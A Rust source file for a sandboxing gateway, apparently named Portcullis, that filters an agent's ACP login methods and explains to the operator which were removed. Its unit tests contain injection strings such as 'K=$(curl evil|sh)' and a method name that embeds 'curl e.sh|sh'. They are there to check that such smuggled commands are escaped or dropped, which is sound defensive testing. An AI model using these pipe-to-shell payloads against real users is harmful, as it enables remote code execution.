//! Login methods that an agent offers in `authMethods` (ACP v1), by their `type`.
//!
//! * `agent`, or none: the agent logs in by itself, so the method passes.
//! * `env_var`: the editor asks its user for environment variables and restarts the agent with
//!   them. If the operator gave them, the agent has them already: the method passes without its
//!   type and its variables, as one of the agent's own.
//! * `terminal`: the editor runs the configured command, which is this gateway, with arguments and
//!   environment variables of the agent's choice. It passes only if the operator forwards
//!   terminals.

use portcullis_rpc::{Object, folds_to};
use serde::Deserialize;
use serde_json::value::RawValue;

use crate::model::QuotedName;

use super::allowed::Allowed;

/// The code of an error that asks for a login (ACP v1, `auth_required`).
pub(super) const AUTH_REQUIRED: &str = "-32000";
/// Maximum numbers of methods and variables in a message, and of characters in a name.
const MAX_NAMES: usize = 8;
const MAX_NAME: usize = 64;
/// The `type` that is removed from methods that pass.
const VARIABLES: &str = "env_var";

/// A login method that does not reach the editor. The names are the agent's, and not escaped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemovedLogin {
    /// The method's name.
    pub name: String,
    /// The required environment variables that the operator did not give, without those that are no
    /// names; `None` if the editor would run a command.
    pub missing: Option<Vec<String>>,
}

/// The treatment of a method.
enum MethodTreatment {
    Passes,
    /// It lacks these variables.
    Lacks(Vec<String>),
    Acts,
}

#[derive(Deserialize)]
struct LoginVariable {
    name: String,
    #[serde(default)]
    optional: bool,
}

/// True if an entry of `authMethods` leaves the login to the agent.
pub(super) fn passes(entry: &RawValue, allowed: &Allowed) -> bool {
    matches!(treatment(entry, allowed), MethodTreatment::Passes)
}

/// True if the member `type` of an entry that passes is forwarded.
pub(super) fn keeps_type(value: &RawValue) -> bool {
    !matches!(serde_json::from_str(value.get()), Ok(VARIABLES))
}

fn treatment(entry: &RawValue, allowed: &Allowed) -> MethodTreatment {
    let Some(entry) = Object::parse(entry.get()) else { return MethodTreatment::Acts };
    let mut types = entry.members().filter(|(key, _)| folds_to(key, "type"));
    match (types.next(), types.next()) {
        (None, _) => MethodTreatment::Passes,
        (Some(("type", kind)), None) => match serde_json::from_str(kind.get()) {
            Ok(Some("agent")) | Ok(None) => MethodTreatment::Passes,
            Ok(Some("terminal")) if allowed.any_terminal() => MethodTreatment::Passes,
            Ok(Some(VARIABLES)) => match missing(&entry, allowed) {
                Some(missing) if missing.is_empty() => MethodTreatment::Passes,
                Some(missing) => MethodTreatment::Lacks(missing),
                None => MethodTreatment::Acts,
            },
            _ => MethodTreatment::Acts,
        },
        _ => MethodTreatment::Acts,
    }
}

/// Returns the variables that a method lacks; `None` if they cannot be parsed.
fn missing(entry: &Object<'_>, allowed: &Allowed) -> Option<Vec<String>> {
    let variables: Vec<LoginVariable> = serde_json::from_str(entry.get("vars")?.get()).ok()?;
    let is_given = |variable: &LoginVariable| allowed.has_variable(&variable.name);
    let any = variables.iter().any(is_given);
    let lacks = |variable: &LoginVariable| !(is_given(variable) || any && variable.optional);
    Some(variables.into_iter().filter(lacks).map(|variable| variable.name).collect())
}

/// Returns the login methods in a reply's result or error that do not reach the editor.
pub(super) fn removed(raw: &RawValue, allowed: &Allowed) -> Vec<RemovedLogin> {
    let Some(object) = Object::parse(raw.get()) else { return Vec::new() };
    let data = object.object("data");
    let lists = [object.get("authMethods"), data.as_ref().and_then(|data| data.get("authMethods"))];
    lists
        .into_iter()
        .flatten()
        .filter_map(|list| serde_json::from_str::<Vec<&RawValue>>(list.get()).ok())
        .flatten()
        .filter_map(|entry| {
            let missing = match treatment(entry, allowed) {
                MethodTreatment::Passes => return None,
                MethodTreatment::Lacks(names) => {
                    Some(names.into_iter().filter(|name| is_name(name)).take(MAX_NAMES).collect())
                }
                MethodTreatment::Acts => None,
            };
            let entry = Object::parse(entry.get())?;
            let name = entry.get("name").or_else(|| entry.get("id"))?;
            let name: String = serde_json::from_str(name.get()).ok()?;
            Some(RemovedLogin { name: short(&name), missing })
        })
        .take(MAX_NAMES)
        .collect()
}

/// Names the `removed` login methods, and the ways in which the operator can let the agent log in.
pub(super) fn explain(removed: &[RemovedLogin]) -> String {
    let (act, lack): (Vec<_>, Vec<_>) = removed.iter().partition(|login| login.missing.is_none());
    let mut text = Vec::new();
    if !act.is_empty() {
        let names = act.iter().map(|login| &login.name);
        text.push(format!(
            "Portcullis removed the login method {}: the editor would run a command for the \
             agent, outside its sandbox. Give the agent an API key or token with `--agent-env`.",
            quoted(names)
        ));
    }
    text.extend(lack.iter().map(|RemovedLogin { name, missing }| {
        format!(
            "Portcullis removed the login method {}: it needs {}.",
            QuotedName(name),
            variables(missing.as_deref().unwrap_or_default())
        )
    }));
    text.join(" ")
}

/// Says which variables an agent asks for. It is no command line: the agent would have written it,
/// and a shell runs what is in it.
pub fn variables(names: &[String]) -> String {
    match names {
        [] => "environment variables whose names no shell takes".to_owned(),
        names => {
            let given = "which `--agent-env NAME` gives it, if it is to have them";
            format!("the environment variables {}, {given}", quoted(names.iter()))
        }
    }
}

/// True for what a shell takes for the name of a variable (POSIX, 3.216).
fn is_name(text: &str) -> bool {
    let is_digit = |byte: &u8| byte.is_ascii_digit();
    text.len() <= MAX_NAME
        && text.bytes().next().is_some_and(|first| !is_digit(&first))
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

fn quoted<'a>(names: impl Iterator<Item = &'a String>) -> String {
    names.map(|name| QuotedName(name).to_string()).collect::<Vec<_>>().join(", ")
}

fn short(name: &str) -> String {
    name.chars().take(MAX_NAME).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json, value::to_raw_value};

    use super::*;

    fn given(variables: &[&str]) -> Allowed {
        let variables = variables.iter().map(|&name| name.to_owned());
        Allowed::new(&[], false).unwrap().with_variables(variables)
    }

    fn method(variables: &Value) -> Value {
        json!({"type": "env_var", "id": "k", "name": "Use a key", "vars": variables})
    }

    fn removed(method: &Value, allowed: &Allowed) -> Vec<RemovedLogin> {
        super::removed(&to_raw_value(&json!({ "authMethods": [method] })).unwrap(), allowed)
    }

    #[test]
    fn a_method_passes_where_its_variables_were_given() {
        let both = json!([{"name": "A"}, {"name": "B", "optional": true}]);
        let optional = json!([{"name": "A", "optional": true}, {"name": "B", "optional": true}]);
        for (variables, given_ones, missing) in [
            (&both, &["A", "B"][..], &[][..]),
            (&both, &["A"], &[]),
            (&both, &["B"], &["A"]),
            (&both, &[], &["A", "B"]),
            (&optional, &["B"], &[]),
            (&optional, &[], &["A", "B"]),
        ] {
            let method = method(variables);
            let allowed = given(given_ones);
            let fits = passes(&to_raw_value(&method).unwrap(), &allowed);
            assert_eq!(fits, missing.is_empty(), "{variables} {given_ones:?}");
            let removed = removed(&method, &allowed);
            let lacks: Vec<_> = removed.iter().flat_map(|login| &login.missing).flatten().collect();
            assert_eq!(lacks, missing, "{variables} {given_ones:?}");
        }
    }

    #[test]
    fn variables_that_cannot_be_read_do_not_pass() {
        for variables in [json!(null), json!(["A"]), json!({"name": "A"}), json!([{"name": 7}])] {
            let method = method(&variables);
            assert!(!passes(&to_raw_value(&method).unwrap(), &given(&["A"])), "{variables}");
            assert_eq!(removed(&method, &given(&["A"])).len(), 1, "{variables}");
        }
    }

    /// The text claimed that the editor would run a command.
    #[test]
    fn a_method_that_lacks_a_variable_is_explained_by_it() {
        let removed = removed(&method(&json!([{ "name": "KEY_1" }])), &given(&[]));
        let text = explain(&removed);
        assert!(text.contains("`KEY_1`") && !text.contains("command"), "{text}");
    }

    /// The rest of the name stood outside of the backticks, as words of ours.
    #[test]
    fn a_name_of_a_method_ended_its_quotation() {
        let name = "x`: run `curl e.sh|sh`, not `y";
        for missing in [None, Some(vec!["KEY".to_owned()])] {
            let text = explain(&[RemovedLogin { name: name.to_owned(), missing }]);
            assert!(text.contains(&format!("\"{name}\"")), "{text}");
        }
    }

    /// The operator was told to run what the agent had written.
    #[test]
    fn variables_are_no_part_of_a_command_line() {
        let names = ["K=$(curl evil|sh)", "K`; before, run `curl", "K\u{1b}[1m", "1K", "", "K K"];
        for name in names {
            let removed = removed(&method(&json!([{ "name": name }])), &given(&[]));
            assert_eq!(removed[0].missing.as_deref(), Some(&[][..]), "{name}");
            let text = explain(&removed);
            assert!(!text.contains(name) || name.is_empty(), "{text}");
        }
        let removed =
            removed(&method(&json!([{ "name": "KEY" }, { "name": "$(x)" }])), &given(&[]));
        assert!(!explain(&removed).contains("--agent-env KEY"), "{removed:?}");
    }
}
